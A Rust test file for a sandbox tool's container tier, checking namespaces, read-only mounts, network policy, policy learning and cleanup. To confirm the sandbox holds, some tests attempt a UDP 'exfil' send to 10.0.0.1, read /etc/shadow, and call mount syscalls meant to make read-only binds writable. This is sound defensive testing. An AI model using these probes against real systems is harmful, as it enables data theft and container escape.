//! `mxcc run` in the container tier: namespaces, the root built from the policy, the
//! private /proc, and the empty network namespace (what leaves it is decided and goes
//! out through MXC). The examples that use this tier are in `examples.rs`. Linux only;
//! CI runs it as root.
#![cfg(target_os = "linux")]

mod common;
use common::*;

use std::io::{Read, Write};
use std::path::Path;
use std::process::{Command, Output};

const SYSTEM: &str = r#"
param work: path
policy system {
  fs {
    allow read "/usr/**", "/lib/**", "/lib64/**", "/etc/**", "/bin/**", "/proc/**"
    allow read, write "/dev/null"
    allow all "${work}/**"
  }
  app { allow launch "/usr/bin/*", "/bin/*" deny launch "/usr/bin/env" }
}
"#;

fn run_in(dir: &Path, extra_policy: &str, args: &[&str], cmd: &[&str]) -> Output {
    let p = dir.join("p.mxc");
    std::fs::write(
        &p,
        format!("{SYSTEM}\n{extra_policy}\nagent a {{ isolation container  use system, more }}\n"),
    )
    .unwrap();
    Command::new(env!("CARGO_BIN_EXE_mxcc"))
        .arg("run")
        .arg(&p)
        .args(["--agent", "a", "--ask", "deny", "--param"])
        .arg(format!("work={}", dir.display()))
        .args(args)
        .arg("--")
        .args(cmd)
        .current_dir(dir)
        .output()
        .unwrap()
}

const NOTHING_MORE: &str = "policy more { fs { deny read \"/nonexistent/**\" } }";

#[test]
fn namespaces_root_and_proc_are_the_sandboxs_own() {
    let d = scratch("ct", "view");
    let script = r#"
import json, os, socket
mounts = []
for line in open("/proc/self/mountinfo"):
    f = line.split()
    sep = f.index("-")
    mounts.append({"at": f[4], "opts": f[5], "fs": f[sep + 1]})
pids = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
ifaces = [l.split(":")[0].strip() for l in open("/proc/net/dev").readlines()[2:]]
open("made-inside", "w").write("x")
print(json.dumps({"pid": os.getpid(), "host": socket.gethostname(), "pids": pids,
                  "mounts": mounts, "ifaces": ifaces, "cwd": os.getcwd(), "uid": os.getuid()}))
"#;
    let o = run_in(&d, NOTHING_MORE, &[], &["/usr/bin/python3", "-c", script]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    let v: serde_json::Value =
        serde_json::from_str(String::from_utf8_lossy(&o.stdout).trim()).unwrap();
    // A pid namespace of its own: init is 1, the command 2, and nothing of the host.
    assert!(v["pid"].as_u64().unwrap() < 10, "{v}");
    let pids: Vec<u64> = v["pids"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p.as_u64().unwrap())
        .collect();
    assert!(pids.iter().all(|&p| p < 10), "{pids:?}");
    assert!(!pids.contains(&u64::from(std::process::id())));
    assert_eq!(v["host"], "mxc");
    // An empty network namespace: loopback only.
    assert_eq!(v["ifaces"], serde_json::json!(["lo"]));
    assert_eq!(v["cwd"], d.to_str().unwrap());
    assert_eq!(v["uid"].as_u64().unwrap(), u64::from(uid()));
    // The root: a read-only tmpfs; /proc is a private procfs; the only other mounts are
    // the policy's grants, read-only except the writable workspace.
    let mounts = v["mounts"].as_array().unwrap();
    let at = |p: &str| mounts.iter().find(|m| m["at"] == p);
    let root_m = at("/").expect("a root");
    assert_eq!(root_m["fs"], "tmpfs");
    assert!(
        root_m["opts"].as_str().unwrap().starts_with("ro"),
        "{root_m}"
    );
    assert_eq!(at("/proc").expect("/proc")["fs"], "proc");
    assert!(at("/usr").expect("/usr")["opts"]
        .as_str()
        .unwrap()
        .starts_with("ro"));
    assert!(at(d.to_str().unwrap()).expect("the workspace")["opts"]
        .as_str()
        .unwrap()
        .starts_with("rw"));
    let granted = [
        "/",
        "/proc",
        "/usr",
        "/etc",
        "/dev/null",
        d.to_str().unwrap(),
    ];
    for m in mounts {
        let p = m["at"].as_str().unwrap();
        assert!(
            granted
                .iter()
                .any(|g| p == *g || (*g != "/" && p.starts_with(&format!("{g}/")))),
            "mounted but not granted: {p} ({mounts:?})"
        );
    }
    // Written from inside, it is on the host, owned as the agent.
    assert_eq!(std::fs::read_to_string(d.join("made-inside")).unwrap(), "x");
}

#[test]
fn statuses_and_leftovers() {
    let d = scratch("ct", "status");
    let o = run_in(&d, NOTHING_MORE, &[], &["/bin/sh", "-c", "exit 7"]);
    assert_eq!(o.status.code(), Some(7), "{}", text(&o));
    let o = run_in(&d, NOTHING_MORE, &[], &["/bin/sh", "-c", "kill -9 $$"]);
    assert_eq!(o.status.code(), Some(137), "{}", text(&o));
    let o = run_in(&d, NOTHING_MORE, &[], &["/usr/bin/env", "true"]);
    assert_eq!(o.status.code(), Some(126), "{}", text(&o));
    let o = run_in(&d, NOTHING_MORE, &[], &["no-such-program-here"]);
    assert_eq!(o.status.code(), Some(127), "{}", text(&o));
    // What the command leaves running is stopped with it (the pid namespace ends).
    let o = run_in(
        &d,
        NOTHING_MORE,
        &[],
        &["/bin/sh", "-c", "/bin/sleep 31337 & echo started"],
    );
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    std::thread::sleep(std::time::Duration::from_millis(200));
    let left = running("sleep 31337");
    assert!(left.is_empty(), "left running: {left:?}");
}

/// A TCP service on the host's loopback that answers `banner` to every connection.
fn service(banner: &'static [u8]) -> u16 {
    let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for s in l.incoming().flatten() {
            let mut s = s;
            let mut b = [0u8; 1024];
            let _ = s.set_read_timeout(Some(std::time::Duration::from_millis(300)));
            let _ = s.read(&mut b);
            let _ = s.write_all(b"HTTP/1.0 200 OK\r\nContent-Length: ");
            let _ = s.write_all(banner.len().to_string().as_bytes());
            let _ = s.write_all(b"\r\n\r\n");
            let _ = s.write_all(banner);
        }
    });
    port
}

#[test]
fn network_leaves_only_through_mxc() {
    let d = scratch("ct", "net");
    let allowed = service(b"ALLOWED-SERVICE");
    let denied = service(b"DENIED-SERVICE");
    let inside = 18_000 + (std::process::id() % 1000) as u16;
    let more = format!(
        "policy more {{ net {{\n  allow connect \"localhost:{allowed}\"\n  allow bind \"127.0.0.1:{inside}\"\n}} }}"
    );
    let script = format!(
        r#"
import socket, threading, urllib.request, select
def grab(port):
    try:
        s = socket.create_connection(("127.0.0.1", port), timeout=5)
        s.sendall(b"GET / HTTP/1.0\r\n\r\n")
        return s.recv(200).decode(errors="replace")
    except OSError as e:
        return "refused: %s" % e
print("host allowed:", grab({allowed}))
print("host denied:", grab({denied}))
# A server and a client inside the sandbox: loopback between them needs no rule.
srv = socket.socket(); srv.bind(("127.0.0.1", {inside})); srv.listen()
def answer():
    c, _ = srv.accept(); c.sendall(b"INSIDE-OK"); c.close()
threading.Thread(target=answer).start()
c = socket.create_connection(("127.0.0.1", {inside}), timeout=5)
print("inside:", c.recv(20).decode())
# Non-blocking connect to the allowed service.
s = socket.socket(); s.setblocking(False)
s.connect_ex(("127.0.0.1", {allowed}))
select.select([], [s], [], 5)
print("nonblocking:", s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR))
# Names go through the proxy (HTTP_PROXY points at it, inside the namespace).
for port in ({allowed}, {denied}):
    try:
        print("proxy", port, urllib.request.urlopen("http://localhost:%d/" % port, timeout=5).read().decode())
    except Exception as e:
        print("proxy", port, "refused:", e)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    u.sendto(b"exfil", ("10.0.0.1", 53)); print("udp: SENT")
except OSError as e:
    print("udp refused:", e)
"#
    );
    let o = run_in(&d, &more, &[], &["/usr/bin/python3", "-c", &script]);
    let out = String::from_utf8_lossy(&o.stdout);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    assert!(
        out.contains("host allowed: HTTP/1.0 200 OK") && out.contains("ALLOWED-SERVICE"),
        "{out}"
    );
    assert!(out.contains("host denied: refused"), "{out}");
    assert!(out.contains("inside: INSIDE-OK"), "{out}");
    assert!(out.contains("nonblocking: 0"), "{out}");
    assert!(
        out.contains(&format!("proxy {allowed} ALLOWED-SERVICE")),
        "{out}"
    );
    assert!(out.contains(&format!("proxy {denied} refused")), "{out}");
    assert!(out.contains("udp refused"), "{out}");
    assert!(!out.contains("DENIED-SERVICE"), "{out}");
}

/// `--learn`: the command runs permissively in a throwaway view (what it writes is not
/// kept), and the policy written allows that command — and not more.
#[test]
fn learn_writes_a_policy_that_runs_the_command_again() {
    let d = scratch("ct", "learn");
    let w = d.join("w");
    std::fs::create_dir_all(&w).unwrap();
    std::fs::write(w.join("in.txt"), "data\n").unwrap();
    let port = service(b"HELLO");
    let p = d.join("strict.mxc");
    std::fs::write(
        &p,
        "policy nothing { fs { deny read \"/nonexistent/**\" } }\nagent a { isolation process  use nothing }\n",
    )
    .unwrap();
    // A port nothing listens on: the connection is refused, and not learned.
    let closed = {
        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        l.local_addr().unwrap().port()
    };
    let script = format!(
        "cat in.txt > out.txt; mkdir -p build; echo x > build/f; \
         python3 -c \"import socket; s = socket.create_connection(('127.0.0.1', {port})); s.sendall(b'x'); print(s.recv(200).decode().split()[0])\"; \
         python3 -c \"import socket; socket.create_connection(('127.0.0.1', {closed}))\" 2>/dev/null; \
         cat out.txt"
    );
    let out = d.join("learned.mxc");
    let o = Command::new(env!("CARGO_BIN_EXE_mxcc"))
        .arg("run")
        .arg(&p)
        .args(["--agent", "a", "--learn"])
        .arg(&out)
        .args(["--", "/bin/sh", "-c", &script])
        .env("PATH", "/usr/bin:/bin")
        .current_dir(&w)
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    let stdout = String::from_utf8_lossy(&o.stdout);
    assert!(
        stdout.contains("HTTP/1.0") && stdout.contains("data"),
        "{}",
        text(&o)
    );
    // Throwaway: nothing the run wrote is on the host.
    assert!(!w.join("out.txt").exists() && !w.join("build").exists());
    let policy = std::fs::read_to_string(&out).unwrap();
    assert!(policy.contains("policy learned-a {"), "{policy}");
    // Written by the printer: already in the layout of `mxcc fmt`.
    let f = Command::new(env!("CARGO_BIN_EXE_mxcc"))
        .args(["fmt", "--check"])
        .arg(&out)
        .output()
        .unwrap();
    assert_eq!(f.status.code(), Some(0), "{f:?}\n{policy}");
    assert!(
        policy.contains(&format!("allow connect \"127.0.0.1:{port}\"")),
        "{policy}"
    );
    assert!(
        !policy.contains(&format!("127.0.0.1:{closed}")),
        "a refused connection was learned: {policy}"
    );
    assert!(policy.contains("allow launch \"/usr/bin/cat\""), "{policy}");
    // The working directory is the parameter `workspace`; no grant is wider than it.
    assert!(
        policy.contains(&format!("param workspace: path = \"{}\"", w.display())),
        "{policy}"
    );
    assert!(policy.contains("\"${workspace}/**\""), "{policy}");
    assert!(
        !policy
            .lines()
            .any(|l| l.trim_start().starts_with("allow") && l.contains(&w.display().to_string())),
        "{policy}"
    );
    assert!(
        !policy.contains("\"/**\"") && !policy.contains("\"~/**\""),
        "{policy}"
    );
    let check = Command::new(env!("CARGO_BIN_EXE_mxcc"))
        .arg("check")
        .arg(&out)
        .output()
        .unwrap();
    assert_eq!(check.status.code(), Some(0), "{}", text(&check));
    // No warning, or each explained in a comment.
    let warned = String::from_utf8_lossy(&check.stderr).into_owned();
    for code in ["W0001", "W0002", "W0003", "W0004", "W0005", "W0006"] {
        if warned.contains(&format!("warning[{code}]")) {
            assert!(
                policy.contains(&format!("// mxcc check: warning[{code}]")),
                "{code} unexplained:\n{policy}\n{warned}"
            );
        }
    }
    // The parameters to run it with, as its header says.
    let run_it = policy
        .lines()
        .find_map(|l| l.strip_prefix("// Run it: mxcc run FILE --agent a-learned"))
        .unwrap_or_else(|| panic!("{policy}"));
    let params: Vec<String> = run_it
        .split(" -- ")
        .next()
        .unwrap()
        .split_whitespace()
        .filter(|w| *w != "--param")
        .map(str::to_string)
        .collect();
    // The learned agent runs the same command, for real this time.
    let again = |cmd: &str| {
        Command::new(env!("CARGO_BIN_EXE_mxcc"))
            .arg("run")
            .arg(&out)
            .args(["--agent", "a-learned", "--ask", "deny"])
            .args(params.iter().flat_map(|p| ["--param", p.as_str()]))
            .args(["--", "/bin/sh", "-c", cmd])
            .env("PATH", "/usr/bin:/bin")
            .current_dir(&w)
            .output()
            .unwrap()
    };
    let o = again(&script);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    assert_eq!(
        std::fs::read_to_string(w.join("out.txt")).unwrap(),
        "data\n"
    );
    assert!(w.join("build/f").exists());
    // And no more than it needed.
    let o = again("cat /etc/shadow");
    assert_ne!(o.status.code(), Some(0), "{}", text(&o));
}

/// If `mxcc` itself is killed, the container goes with it (the watchdog kills the run's
/// cgroup, and the namespace's init dies with its parent).
#[test]
fn killing_mxcc_kills_the_container() {
    let d = scratch("ct", "killed");
    let marker = format!("{}", 40_000 + std::process::id() % 10_000);
    let p = d.join("p.mxc");
    std::fs::write(
        &p,
        format!("{SYSTEM}\n{NOTHING_MORE}\nagent a {{ isolation container  use system, more }}\n"),
    )
    .unwrap();
    let mut child = Command::new(env!("CARGO_BIN_EXE_mxcc"))
        .arg("run")
        .arg(&p)
        .args(["--agent", "a", "--param"])
        .arg(format!("work={}", d.display()))
        .args(["--", "/bin/sh", "-c"])
        .arg(format!(
            "(/bin/sleep {marker} & wait) & /bin/sleep {marker} & echo started > {}/started; wait",
            d.display()
        ))
        .spawn()
        .unwrap();
    let sleeping = || {
        running(&format!("/bin/sleep {marker}"))
            .iter()
            .filter(|c| *c == &format!("/bin/sleep {marker}"))
            .count()
    };
    let start = std::time::Instant::now();
    while !(d.join("started").exists() && sleeping() == 2) {
        assert!(
            start.elapsed() < std::time::Duration::from_secs(20),
            "not started"
        );
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    child.kill().unwrap(); // SIGKILL: no clean-up code of mxcc runs
    child.wait().unwrap();
    let start = std::time::Instant::now();
    while sleeping() > 0 {
        assert!(
            start.elapsed() < std::time::Duration::from_secs(10),
            "still running after mxcc was killed"
        );
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
}

/// The read-only binds are locked by the kernel: made in a user namespace the agent
/// does not own, and copied into the agent's own, they cannot be made writable,
/// cloned writable (open_tree_attr), or unmounted even by a process holding every
/// capability in the agent's namespace (nsenter from the host, outside the seccomp
/// filter). Before the agent had a namespace of its own, all three succeeded.
#[test]
fn read_only_binds_are_locked_even_with_capabilities() {
    let dir = scratch("ctr", "locked");
    let marker = format!("{}.{}", 30, std::process::id());
    let p = dir.join("p.mxc");
    std::fs::write(
        &p,
        format!("{SYSTEM}\n{NOTHING_MORE}\nagent a {{ isolation container  use system, more }}\n"),
    )
    .unwrap();
    let mut child = Command::new(env!("CARGO_BIN_EXE_mxcc"))
        .arg("run")
        .arg(&p)
        .args(["--agent", "a", "--ask", "deny", "--param"])
        .arg(format!("work={}", dir.display()))
        .args(["--", "/usr/bin/sleep", &marker])
        .current_dir(&dir)
        .spawn()
        .unwrap();
    let needle = format!("/usr/bin/sleep {marker}");
    let mut pid = None;
    for _ in 0..500 {
        pid = std::fs::read_dir("/proc").unwrap().flatten().find_map(|e| {
            let c = std::fs::read(e.path().join("cmdline")).ok()?;
            let c = String::from_utf8_lossy(&c).replace('\0', " ");
            (c.trim() == needle).then(|| e.file_name().to_string_lossy().to_string())
        });
        if pid.is_some() {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(10));
    }
    let pid = pid.expect("the sandboxed sleep");
    let script = r#"
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
class A(ctypes.Structure):
    _fields_ = [("s", ctypes.c_uint64), ("c", ctypes.c_uint64), ("p", ctypes.c_uint64), ("u", ctypes.c_uint64)]
a = A(0, 1, 0, 0)  # clear MOUNT_ATTR_RDONLY
L = ctypes.c_long
ptr = ctypes.c_void_p(ctypes.addressof(a))
hdr = (ctypes.c_uint32 * 2)(0x20080522, 0)
data = (ctypes.c_uint32 * 6)()
libc.capget(hdr, data)
print("nsenter'd process: %08x%08x" % (data[3], data[0]))
for name, r in [
    ("open_tree_attr", libc.syscall(L(467), L(-100), b"/usr", L(1 | 0x8000), ptr, L(32))),
    ("mount_setattr", libc.syscall(L(442), L(-100), b"/usr", L(0), ptr, L(32))),
    ("remount", libc.mount(None, b"/usr", None, ctypes.c_ulong(0x20 | 0x1000), None)),
    ("umount2", libc.umount2(b"/usr", 2)),
]:
    print(name, "ESCAPED" if r >= 0 else "held: " + os.strerror(ctypes.get_errno()))
"#;
    let out = Command::new("nsenter")
        .args([
            "-t",
            &pid,
            "-U",
            "-m",
            "--",
            "/usr/bin/python3",
            "-c",
            script,
            "self",
        ])
        .output()
        .expect("nsenter (util-linux) is needed for this test");
    let _ = child.kill();
    let _ = child.wait();
    let t = text(&out);
    assert!(out.status.success(), "{t}");
    // Every capability, in the agent's namespace.
    assert!(t.contains("nsenter'd process: 000001ffffffffff"), "{t}");
    assert_eq!(t.matches("held: ").count(), 4, "{t}");
    assert!(!t.contains("ESCAPED"), "{t}");
    let _ = std::fs::remove_dir_all(&dir);
}
